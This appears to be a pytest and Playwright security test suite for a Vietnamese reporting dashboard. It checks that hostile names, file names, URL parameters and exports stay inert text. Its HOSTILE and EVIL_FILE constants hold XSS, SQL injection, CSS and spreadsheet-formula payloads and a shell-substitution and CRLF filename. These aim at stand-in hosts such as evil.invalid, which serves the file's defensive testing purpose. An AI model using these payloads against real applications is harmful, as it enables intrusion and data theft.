"""Words of others — names, titles, notes, files, addresses — stay letters on every page, without the policy's help."""

from __future__ import annotations

import csv
import io
import re
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, unquote, urlencode, urlsplit

import openpyxl
import pytest
from playwright.sync_api import Browser, Page

from dashboard.app import PAGES
from dashboard.text import WORDS
from etl.archive import Archive
from etl.reference import copy_reference, load_reference
from etl.settings import REPOSITORY, Settings
from tests import canaries
from tests.forms import bm01, xlsx
from tests.pages import province
from tests.wall_site import SCREENS, WallSite, environment

HOSTILE = (
    '<img class=evil src="https://evil.invalid/1" onerror="hurt()">',
    "<script src=https://evil.invalid/2></script><script>hurt()</script>",
    "<svg class=evil onload=hurt()><style>*{color:red}</style></svg>",
    '"><iframe class=evil src="javascript:parent.hurt()"></iframe>',
    '<a href="javascript:hurt()">bấm</a>',
    '<a class=evil href="https://evil.invalid/3">xem</a>',
    "[bấm](javascript:hurt()) ![ảnh](https://evil.invalid/4.png)",
    "<https://evil.invalid/5> https://evil.invalid/6 www.evil.invalid",
    "'; DROP TABLE mart.progress; -- \" OR 1=1",
    "</style><style class=evil>body{background:url(//evil.invalid/7)}</style>",
    "\" class=evil style='position:fixed' onmouseover='hurt()",
    "\u202eđảo ngược\u202c \u200fphải\u200e",
    "$\\href{javascript:hurt()}{x}$ :red[x] :material/delete: **đậm** `mã` &lt;b&gt; {{x}} %s {0} :smile: -> <- >=",
    '=HYPERLINK("https://evil.invalid/8","x")',
    "Rất dài " * 40 + "<b class=evil>hết</b>",
)
EVIL_FILE = "<img class=evil src=evil onerror=hurt()>\"'; $(hurt)%0d%0a[x](javascript:hurt()).xlsx"
PARAMETERS = (
    "tinh", "loai", "don-vi", "quy", "chi-tieu", "thoi-diem", "lang", "tim", "trang", "trinh-chieu", "so-voi",
    "dia-gioi", "xep-hang", "trang-so", "bang", "nguon", "phieu", "ngay", "gui", "cua", "chu-tri", "cac-quy",
    "cac-loai", "cac-don-vi", "cac-chi-tieu", "da-gui", "bieu", "ky", "xep", "tu", "ho", "loai-doi", "tiep", "man-hinh",
)  # fmt: skip
DONE = "[data-testid=stApp][data-test-script-state=notRunning]"
FOREIGN = """() => [...document.querySelectorAll('*')].filter(each => each.matches('.evil, iframe, object, embed, base')
  || (each.localName === 'script' || each.localName === 'style') && /hurt|evil/.test(each.textContent)
  || [...each.attributes].some(({name, value}) => name.startsWith('on') || name === 'style' && /evil/.test(value)
    || /^(src|srcset|href|xlink:href|action|formaction|data|poster)$/.test(name) && value
      && !(new URL(value, location.href).origin === location.origin || /^(data:image|blob:)/.test(value))))
  .map(each => each.outerHTML.slice(0, 200))"""
SAID = """() => [...document.querySelectorAll('*')].flatMap(each => [
    ...[...each.childNodes].filter(node => node.nodeType === 3).map(node => node.data), each.value,
    ...['aria-label', 'title', 'placeholder'].map(name => each.getAttribute(name))]).join(' ')"""
HOVER = """async () => {
  const found = [];
  for (const chart of document.querySelectorAll('.js-plotly-plot')) {
    for (let curve = 0; curve < chart.data.length; curve++)
      for (let point = 0; point < Math.min((chart.calcdata?.[curve] ?? []).length, 15); point += 2) {
        try { window.Plotly.Fx.hover(chart, [{curveNumber: curve, pointNumber: point}]); } catch { continue; }
        found.push(...[...chart.querySelectorAll('.hoverlayer text')].map(each => each.textContent));
      }
    await new Promise(requestAnimationFrame);
  }
  return found.join(' ');
}"""


@dataclass
class Watched:
    """A browser without any policy, what it asked for, what was called, and the words that were seen."""

    page: Page
    site: WallSite
    asked: set[str] = field(default_factory=set)
    called: list[str] = field(default_factory=list)
    words: list[str] = field(default_factory=list)

    def look(self, path: str, act: Callable[[Page], None] | None = None) -> str:
        """Open a page, hover its charts, keep its words; nothing of others may have become part of the page."""
        self.page.goto(self.site.url + path)
        if path.startswith("/man-hinh/"):
            self.page.locator("main *").nth(3).wait_for(state="attached")
        elif not path.startswith("/phieu/"):
            self.page.wait_for_selector(DONE)
            self.page.wait_for_load_state("networkidle")
            assert self.page.get_by_test_id("stException").count() == 0, unquote(path)
        if act is not None:
            act(self.page)
        self.words.append(self.page.evaluate(HOVER))
        words = str(self.page.evaluate(SAID))
        self.words.append(words)
        assert self.page.evaluate(FOREIGN) == [], unquote(path)
        return words

    def said(self) -> str:
        return _plain(" ".join(self.words))


def _plain(words: str) -> str:
    return re.sub(r"\s+", " ", words)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WallSite]:
    """Every word that somebody outside can choose is hostile, in files and in reference data alike."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        settings = Settings(live=tmp_path_factory.mktemp("injection"), port=probe.getsockname()[1])
    copy_reference(REPOSITORY / "data" / "reference", settings.reference)
    for place, indicator in enumerate(canaries.INDICATORS):
        path = settings.reference / "indicators" / f"{indicator}.toml"
        words = re.sub(r"(?m)^name_vi = .*$", lambda _, at=place: f"name_vi = '''{HOSTILE[at]}'''", path.read_text())
        path.write_text(words, encoding="utf-8")
    (settings.reference / "screens").mkdir(exist_ok=True)
    shown = SCREENS["xoay"].replace("{refresh}", "1").replace("{seconds}", "1")
    (settings.reference / "screens" / "xoay.toml").write_text(shown, encoding="utf-8")
    returned = tmp_path_factory.mktemp("sent") / EVIL_FILE
    returned.write_bytes(xlsx(bm01(("VB01", HOSTILE[0], 90, None, HOSTILE[1]), ("VB02", 5, 9))))
    subprocess.run([sys.executable, "-m", "etl.cli", "ingest", str(returned)], env=environment(settings), check=False)
    renamed = province.communes_of(load_reference(settings.reference), len(HOSTILE))
    _rename(settings.reference / "org_units.csv", dict(zip(renamed, HOSTILE, strict=True)))
    word = {unit: HOSTILE[(place + 4) % len(HOSTILE)] for place, unit in enumerate(renamed)}
    canaries.fill(settings, len(HOSTILE) + len(canaries.DEPARTMENTS), lambda unit: word.get(unit, HOSTILE[0]))
    site = WallSite(settings)
    site.start()
    yield site
    site.stop()


def _rename(path: Path, names: dict[str, str]) -> None:
    with path.open(encoding="utf-8", newline="") as lines:
        rows = list(csv.DictReader(lines))
    with path.open("w", encoding="utf-8", newline="") as lines:
        written = csv.DictWriter(lines, list(rows[0]), lineterminator="\n")
        written.writeheader()
        for row in rows:
            name = names.get(row["code"])
            written.writerow(row if name is None else {**row, "name": name, "short_name": name})


@pytest.fixture
def watched(browser: Browser, site: WallSite) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1366, "height": 768}, locale="vi-VN", bypass_csp=True)
    page = context.new_page()
    page.set_default_timeout(30_000)
    found = Watched(page, site)
    context.expose_function("hurt", lambda: found.called.append(page.url))
    context.on("request", lambda request: found.asked.add(request.url))
    yield found
    page.wait_for_timeout(200)
    assert found.called == []
    elsewhere = {url for url in found.asked if not url.startswith((f"{site.url}/", "data:", "blob:"))}
    assert {url for url in elsewhere if not url.startswith(site.url.replace("http:", "ws:"))} == set()
    assert not [url for url in found.asked if urlsplit(url).path.endswith("/evil")]
    context.close()


def test_hostile_names_and_texts_are_shown_as_they_are(watched: Watched, site: WallSite) -> None:
    unit = province.communes_of(site.reference(), 1)[0]
    for page in PAGES:
        watched.look(f"/{page.url_path}?quy=2026-Q2&loai=commune&chi-tieu=VB01&don-vi={unit}")
    unit = province.communes_of(site.reference(), 4)[3]
    watched.look(f"/chi_tieu?quy=2026-Q2&chi-tieu=VB01&nguon=figure~{unit}~VB01~2026-Q2")
    for row in watched.page.request.get(f"{site.url}/api/v1/tasks").json()["data"][1::5]:
        watched.look("/nhiem_vu?quy=2026-Q2&nguon=" + quote(f"task~{row['task_key']}~~2026-Q2"))
        opened = _plain(watched.page.get_by_role("dialog").inner_text())
        assert _plain(row["title"]) in opened
        assert f"{WORDS['task.obstacle'][0]}: {_plain(row['obstacle'])}" in opened
    said = watched.said()
    assert [words for words in HOSTILE if _plain(words) not in said] == []


def test_slides_wall_and_receipts_are_inert(watched: Watched, site: WallSite) -> None:
    with (site.settings.reference / "slides.csv").open(encoding="utf-8") as lines:
        slides = {row["kind"]: row["slide"] for row in csv.DictReader(lines)}.values()
    for slide in slides:
        watched.look(f"/trinh_chieu?quy=2026-Q2&trang={slide}")
    watched.look("/man-hinh/xoay", lambda page: page.wait_for_timeout(5_000))
    for record in Archive(site.settings.archive).receipts():
        if record["outcome"] != "rejected":
            continue
        words = watched.look(f"/phieu/{record['submission']}")
        assert _plain(str(record["file_name"])) in _plain(words)


def test_hostile_addresses_are_words(watched: Watched) -> None:
    for place, page in enumerate(PAGES):
        wished = {name: HOSTILE[(place + each) % len(HOSTILE)] for each, name in enumerate(PARAMETERS)}
        wished["lang"] = "vi"
        del wished["man-hinh"]
        watched.look(f"/{page.url_path}?{urlencode(wished)}")


def test_exports_hold_words_and_no_formulas(watched: Watched, site: WallSite) -> None:
    cells: list[str] = []
    for table in ("progress", "tasks", "units", "indicators"):
        lines = watched.page.request.get(f"{site.url}/api/v1/{table}?format=csv&limit=10000").text()
        cells += [cell for row in csv.reader(io.StringIO(lines)) for cell in row]
    watched.look("/khai_thac?quy=2026-Q2&cac-quy=tat-ca&cac-don-vi=tat-ca")
    for kind in ("xlsx", "csv"):
        with watched.page.expect_download() as offered:
            watched.page.get_by_role("button", name=WORDS[f"explore.{kind}"][0]).click()
        data = Path(offered.value.path()).read_bytes()
        if kind == "csv":
            cells += [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for cell in row]
            continue
        written = [
            cell for sheet in openpyxl.load_workbook(io.BytesIO(data)) for row in sheet.iter_rows() for cell in row
        ]
        assert [cell.coordinate for cell in written if cell.data_type == "f"] == []
        assert not [cell for cell in written if cell.hyperlink and "evil" in str(cell.hyperlink.target)]
        named = {_plain(cell.value) for cell in written if isinstance(cell.value, str)}
    assert not [cell for cell in cells if re.match(r"[=@+\t\r]|-\D", cell)]
    told = {_plain(cell.removeprefix("'")) for cell in cells}
    assert [words for words in HOSTILE if not {_plain(words), _plain(words)[1:]} & told] == []
    assert [words for words in HOSTILE if _plain(words) not in named] == []


def test_names_of_files_taken_along_cannot_break_out(watched: Watched, site: WallSite) -> None:
    records = [each for each in Archive(site.settings.archive).receipts() if each["file_name"] == EVIL_FILE]
    assert records
    for record in records:
        for address in ("tep-goc", "ban-danh-dau"):
            answer = watched.page.request.get(f"{site.url}/{address}/{record['submission']}")
            assert answer.ok, address
            assert set(answer.headers) & {"x-injected", "location", "set-cookie"} == set()
            plain, _, named = answer.headers["content-disposition"].partition("; filename*=UTF-8''")
            assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._ -]+"', plain)
            assert re.fullmatch(r"[A-Za-z0-9._~%-]+", named)
            assert answer.headers["content-type"] == "application/octet-stream"
